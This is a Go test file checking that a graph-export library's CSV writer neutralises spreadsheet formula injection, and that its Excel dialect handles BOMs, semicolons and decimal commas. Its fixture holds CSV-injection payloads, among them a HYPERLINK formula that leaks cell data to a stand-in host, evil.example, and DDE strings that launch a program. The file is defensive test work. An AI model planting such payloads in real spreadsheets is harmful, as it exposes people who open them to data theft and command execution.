package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	rg "github.com/regiongraph/regiongraph"
	"github.com/regiongraph/regiongraph/export"
)

// hostileGraph is the fixture with names, descriptions and relation texts
// that a spreadsheet would run as formulas.
func hostileGraph() (*export.Graph, map[string]string) {
	nodes, edges := fixture()
	formulas := map[string]string{ // node id -> its hostile name
		"kommune-kongsberg": `=HYPERLINK("http://evil.example/?leak="&A1,"Kongsberg")`,
		"kommune-notodden":  "+cmd|' /C calc'!A0",
		"partner-usn":       "-2+3",
		"fond-rup":          "@SUM(1+1)*cmd|' /C calc'!A0",
		"tema-jernbane":     "\t=1+1",
		"sats-1":            "\r=1+1",
	}
	for _, n := range nodes {
		if f, ok := formulas[n.ID]; ok {
			n.Name = f
			n.Description = f
		}
	}
	edges[0].AsWritten = "=1+1"
	g := export.New(export.Filter{}, &rg.Subgraph{Nodes: nodes, Edges: edges})
	return g, formulas
}

func readRows(t *testing.T, b []byte, comma rune) []map[string]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.Comma = comma
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read CSV: %v\n%s", err, b)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, h := range rows[0] {
			m[h] = row[i]
		}
		out = append(out, m)
	}
	return out
}

// TestCSVNeutralisesFormulas: every text cell starting with =, +, -, @, a
// tab or a carriage return is written with a leading apostrophe (OWASP), in
// both dialects; other cells and numbers are as they were.
func TestCSVNeutralisesFormulas(t *testing.T) {
	g, formulas := hostileGraph()
	for _, o := range []export.CSVOptions{{}, {Excel: true}} {
		var nodesCSV, edgesCSV bytes.Buffer
		if err := export.WriteCSVWith(&nodesCSV, &edgesCSV, g, o); err != nil {
			t.Fatal(err)
		}
		comma := ','
		nb, eb := nodesCSV.Bytes(), edgesCSV.Bytes()
		if o.Excel {
			comma = ';'
			nb, eb = bytes.TrimPrefix(nb, []byte("\uFEFF")), bytes.TrimPrefix(eb, []byte("\uFEFF"))
		}
		seen := 0
		for _, r := range readRows(t, nb, comma) {
			for _, col := range []string{"Label", "description"} {
				v := r[col]
				if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") {
					t.Errorf("excel=%v: node %s %s = %q starts a formula", o.Excel, r["Id"], col, v)
				}
			}
			if f, ok := formulas[r["Id"]]; ok {
				seen++
				if r["Label"] != "'"+f || r["description"] != "'"+f {
					t.Errorf("excel=%v: node %s label %q, description %q, want %q", o.Excel, r["Id"], r["Label"], r["description"], "'"+f)
				}
			} else if r["Id"] == "kommune-nore-og-uvdal" && r["Label"] != nameNore {
				t.Errorf("excel=%v: a plain name was changed: %q", o.Excel, r["Label"])
			}
		}
		if seen != len(formulas) {
			t.Errorf("excel=%v: %d hostile nodes in nodes.csv, want %d", o.Excel, seen, len(formulas))
		}
		edges := readRows(t, eb, comma)
		if edges[0]["asWritten"] != "'=1+1" {
			t.Errorf("excel=%v: edges.csv asWritten %q, want '=1+1", o.Excel, edges[0]["asWritten"])
		}
	}
}

// TestCSVExcelDialect: the Excel dialect starts with a UTF-8 byte-order
// mark, separates cells with ';', writes decimal commas, and keeps Norwegian letters, quotes and semicolons intact.
func TestCSVExcelDialect(t *testing.T) {
	nodes, edges := fixture()
	g := export.New(export.Filter{}, &rg.Subgraph{Nodes: nodes, Edges: edges})
	var plain, excel bytes.Buffer
	if err := export.WriteNodesCSV(&plain, g); err != nil {
		t.Fatal(err)
	}
	if err := export.WriteNodesCSVWith(&excel, g, export.CSVOptions{Excel: true}); err != nil {
		t.Fatal(err)
	}
	b := excel.Bytes()
	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 BOM: % x", b[:3])
	}
	if bytes.HasPrefix(plain.Bytes(), []byte{0xEF, 0xBB, 0xBF}) {
		t.Error("the default dialect has a BOM")
	}
	b = b[3:]
	if !bytes.HasPrefix(b, []byte("Id;Label;kind;")) {
		t.Errorf("not ';': %q", b[:min(80, len(b))])
	}
	pRows, eRows := readRows(t, plain.Bytes(), ','), readRows(t, b, ';')
	if len(pRows) != len(eRows) || len(eRows) != len(nodes) {
		t.Fatalf("%d and %d rows, want %d", len(pRows), len(eRows), len(nodes))
	}
	decimals := 0
	for i, p := range pRows {
		e := eRows[i]
		for h, pv := range p {
			ev := e[h]
			switch h {
			case "x", "y", "size":
				if strings.Contains(pv, ".") {
					decimals++
				}
				if ev != strings.Replace(pv, ".", ",", 1) {
					t.Errorf("%s %s: excel %q, plain %q", p["Id"], h, ev, pv)
				}
			default:
				if ev != pv {
					t.Errorf("%s %s: excel %q, plain %q", p["Id"], h, ev, pv)
				}
			}
		}
	}
	if decimals == 0 {
		t.Error("no fractional number in the fixture's columns x, y, size: the decimal comma is untested")
	}
	for _, name := range []string{nameTinn, nameBaner, nameLaering} {
		found := false
		for _, r := range eRows {
			found = found || r["Label"] == name
		}
		if !found {
			t.Errorf("%q does not survive the Excel dialect", name)
		}
	}
}

func TestParseCSVDialect(t *testing.T) {
	for in, want := range map[string]bool{"": false, "rfc4180": false, "excel": true, "EXCEL": true} {
		if o, ok := export.ParseCSVDialect(in); !ok || o.Excel != want {
			t.Errorf("ParseCSVDialect(%q) = %+v, %v", in, o, ok)
		}
	}
	if _, ok := export.ParseCSVDialect("tsv"); ok {
		t.Error("tsv accepted")
	}
}
